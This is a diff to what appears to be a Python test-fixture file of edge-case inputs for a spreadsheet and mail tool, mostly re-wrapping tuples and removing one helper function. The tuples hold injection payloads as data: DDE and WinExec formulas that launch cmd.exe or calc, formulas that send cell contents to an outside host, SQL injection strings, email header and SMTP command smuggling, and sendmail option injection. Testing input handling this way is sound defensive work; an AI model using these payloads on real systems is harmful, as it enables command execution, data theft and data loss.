@@ -12,7 +12,8 @@ FORMULAS = (
     "'=1+1", "'", "''", "=HYPERLINK(\"http://x.vn\";\"bấm\")", "=IMPORTRANGE(\"x\";\"A1\")",
     "=IMPORTXML(CONCAT(\"http://x.vn/?\";A1);\"//a\")", "=WEBSERVICE(\"http://x.vn\")", "=IMAGE(\"http://x.vn/a.png\")",
     "=DDE(\"cmd\";\"/C calc\";\"x\")", "DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"", "=RTD(\"x\";;\"y\")",
-    "=EXEC(\"calc\")", "=CALL(\"kernel32\";\"WinExec\";\"JCJ\";\"calc\";0)", "＝1+1", "%0A=1+1", "_x003D_1+1", "_x0041_",
+    "=EXEC(\"calc\")", "=CALL(\"kernel32\";\"WinExec\";\"JCJ\";\"calc\";0)", "＝1+1", "%0A=1+1",
+    "_x003D_1+1", "_x0041_",
 )  # fmt: skip
 LINKS = (
     "http://x.vn/a?b=1", "https://x.vn/a b", "ftp://x.vn", "mailto:a@x.vn", "a@x.vn", "www.x.vn", "file:///c:/a.xlsx",
@@ -35,13 +36,14 @@ HEADERS = (
     "\"D\" <d@example.com>, e@example.com", "x;y,z:w", "x\u2028Bcc: a@example.com", "x\x85Bcc: a@example.com",
 )  # fmt: skip
 CHARACTERS = (
-    "a\x00b\x0bc", "\x1b[2J\x1b]0;x\x07", "\x1b]8;;http://x.vn\x1b\\bấm\x1b]8;;\x1b\\", "\x9b31mđỏ", "a\x08\x08b", "\x7f",
-    "\ud800x", "x\udc00", "\ufffe\uffff", "\ufeffx", "\u202eđảo\u202c", "\u2066x\u2069", "a\u200bb", "a\u00adb", "\u2029x",
-    "e\u0301\u0302", "😀👨‍👩‍👧", "مرحبا", "ﬁ", "dòng 1\ndòng 2", "dòng 1\r\ndòng 2", "  hai đầu  ", "a\tb",
+    "a\x00b\x0bc", "\x1b[2J\x1b]0;x\x07", "\x1b]8;;http://x.vn\x1b\\bấm\x1b]8;;\x1b\\", "\x9b31mđỏ", "a\x08\x08b",
+    "\x7f", "\ud800x", "x\udc00", "\ufffe\uffff", "\ufeffx", "\u202eđảo\u202c", "\u2066x\u2069",
+    "a\u200bb", "a\u00adb", "\u2029x", "e\u0301\u0302", "😀👨‍👩‍👧", "مرحبا", "ﬁ", "dòng 1\ndòng 2", "dòng 1\r\ndòng 2",
+    "  hai đầu  ", "a\tb",
 )  # fmt: skip
 QUERIES = (
-    "'; DROP TABLE version; --", "' OR '1'='1", "\" OR 1=1 --", "x' UNION SELECT body FROM blob --", ":p", "?", "%", "_",
-    "\\", "x'); ATTACH DATABASE '/tmp/x' AS y; --",
+    "'; DROP TABLE version; --", "' OR '1'='1", "\" OR 1=1 --", "x' UNION SELECT body FROM blob --", ":p", "?",
+    "%", "_", "\\", "x'); ATTACH DATABASE '/tmp/x' AS y; --",
 )  # fmt: skip
 NUMBERS = ("1007", "1.007", "1E5", "03", "1/2", "01/02/2024", "12:30", "TRUE", "#REF!", "#N/A", "NaN", "1e999", "-0")
 
@@ -60,10 +62,3 @@ ADDRESSES = (
     "a@x.vn\nDATA", "a@x.vn> SIZE=9\r\nRCPT TO:<b@x.vn", "@x.vn", "a@", "a", "a@@x.vn", "a@x.vn\x00", "a@[127.0.0.1]",
     "|calc@x.vn", "-oQ/tmp@x.vn", "../x@x.vn", "đ@x.vn", "a@x..vn", "a @x.vn",
 )  # fmt: skip
-
-
-def is_typed_text(text: str) -> bool:
-    """True of a text that a reader of XML gives back as it was: no characters that XML cannot hold, no lone "\\r"."""
-    from sheets.text import storable
-
-    return storable(text) == text
